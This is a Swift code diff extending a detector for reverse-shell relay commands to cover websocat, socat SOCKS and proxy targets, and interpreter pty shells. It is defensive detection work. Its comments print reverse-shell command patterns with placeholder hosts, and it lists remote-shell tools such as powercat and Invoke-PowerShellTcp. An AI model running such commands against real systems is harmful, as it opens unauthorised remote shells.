@@ -4,7 +4,7 @@ import Bytes
 /// another display, and the named PowerShell clients.
 enum RelayMatcher {
   private static let tools = NameTable([
-    "socat", "socat.exe", "s_client", "xterm", "Invoke-ConPtyShell", "powercat", "Invoke-PowerShellTcp",
+    "socat", "socat.exe", "websocat", "s_client", "xterm", "Invoke-ConPtyShell", "powercat", "Invoke-PowerShellTcp",
   ])
 
   static func matches(_ shell: ShellText) -> [ShellMatch] {
@@ -19,6 +19,8 @@ enum RelayMatcher {
         if seen > 64 { return found }
         if name.equalsIgnoringCase("socat") || name.equalsIgnoringCase("socat.exe") {
           if let one = socat(shell, index, place) { found.append(one) }
+        } else if name == "websocat" {
+          if let one = websocat(shell, index, place) { found.append(one) }
         } else if name == "s_client" {
           if let one = openssl(shell, index) { found.append(one) }
         } else if name == "xterm" {
@@ -36,15 +38,9 @@ enum RelayMatcher {
 
   /// `socat TCP:host:port EXEC:sh`, in either order; `TCP-LISTEN:` waits instead.
   private static func socat(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
-    var words = Array(shell.commands[index].words.dropFirst(place + 1).prefix(32))
-    var next = index
-    while next + 1 < shell.commands.count, words.count < 32,
-      shell.commands[next].end == 0x22 || shell.commands[next].end == 0x27
-    {
-      next += 1
-      words += shell.commands[next].words.prefix(32)
-    }
-    var runsShell = false
+    let words = arguments(shell, index, place)
+    // `socat - TCP:host:port | sh`
+    var runsShell = words.first.map { $0 == "-" } == true && shell.isPipedWithShell(index)
     var far: Endpoint?
     var isBind = false
     var transport = "tcp"
@@ -55,12 +51,18 @@ enum RelayMatcher {
       case "EXEC", "SYSTEM", "SHELL":
         let program = rest.isEmpty ? (number + 1 < words.count ? words[number + 1] : rest) : rest
         let first = program.cut(0x2C)?.before ?? program
-        if ShellWords.isShell(first) { runsShell = true }
+        if ShellWords.isShell(first) || interpreters.contains(ShellWords.baseName(first)) && namesTerminal(shell.text) {
+          runsShell = true
+        }
       case "TCP", "TCP4", "TCP6", "TCP-CONNECT", "TCP4-CONNECT", "TCP6-CONNECT", "UDP", "UDP4", "UDP6", "UDP-CONNECT",
         "OPENSSL", "OPENSSL-CONNECT", "SSL", "SCTP", "SCTP-CONNECT":
         transport = name.hasPrefix("UDP") ? "udp" : "tcp"
         let plain = rest.cut(0x2C)?.before ?? rest
         if let colon = plain.lastIndex(of: 0x3A) { far = shell.endpoint(plain.slice(0, colon), plain.slice(colon + 1)) }
+      case "SOCKS4", "SOCKS4A", "SOCKS5", "SOCKS5-CONNECT", "PROXY", "PROXY-CONNECT":
+        // The relay comes first, then where it is to connect.
+        let parts = (rest.cut(0x2C)?.before ?? rest).split(0x3A, limit: 4)
+        if parts.count == 3 { far = shell.endpoint(parts[1], parts[2]) }
       default:
         if name.hasSuffix("-LISTEN") || name.hasSuffix("-L") {
           isBind = true
@@ -72,6 +74,44 @@ enum RelayMatcher {
     return ShellMatch(
       technique: "socat", endpoint: far, isBind: isBind, transport: transport,
       place: shell.commands[index].range.lowerBound)
+  }
+
+  private static let interpreters = NameTable(["python", "python2", "python3", "perl", "ruby", "script"])
+
+  private static func namesTerminal(_ text: ByteView) -> Bool {
+    text.contains("pty.spawn") || text.contains("PTY.spawn") || ShellWords.namesShell(text)
+  }
+
+  /// The words behind a tool, also those in quotes.
+  private static func arguments(_ shell: ShellText, _ index: Int, _ place: Int) -> [ByteView] {
+    var words = Array(shell.commands[index].words.dropFirst(place + 1).prefix(32))
+    var next = index
+    while next + 1 < shell.commands.count, words.count < 32,
+      shell.commands[next].end == 0x22 || shell.commands[next].end == 0x27
+    {
+      next += 1
+      words += shell.commands[next].words.prefix(32)
+    }
+    return words
+  }
+
+  /// `websocat ws://host:port exec:/bin/sh`, `websocat cmd:'bash -i' tcp:host:port`
+  private static func websocat(_ shell: ShellText, _ index: Int, _ place: Int) -> ShellMatch? {
+    let words = arguments(shell, index, place)
+    var runsShell = false
+    var far: Endpoint?
+    for (number, word) in words.enumerated() {
+      guard let (kind, rest) = word.cut(0x3A), kind.count <= 12 else { continue }
+      if kind == "exec" || kind == "cmd" || kind == "sh-c" {
+        let program = rest.isEmpty && number + 1 < words.count ? words[number + 1] : rest
+        if ShellWords.isShell(program) { runsShell = true }
+      } else if kind == "ws" || kind == "wss" || kind == "tcp" || kind == "ws-c" {
+        far = Endpoint.pair(rest.hasPrefix("//") ? rest.slice(2) : rest) ?? far
+      }
+    }
+    guard runsShell, let far else { return nil }
+    return ShellMatch(
+      technique: "other", language: "websocat", endpoint: far, place: shell.commands[index].range.lowerBound)
   }
 
   /// `sh -i <fifo | openssl s_client -connect host:port >fifo`; to look at a certificate needs no shell.
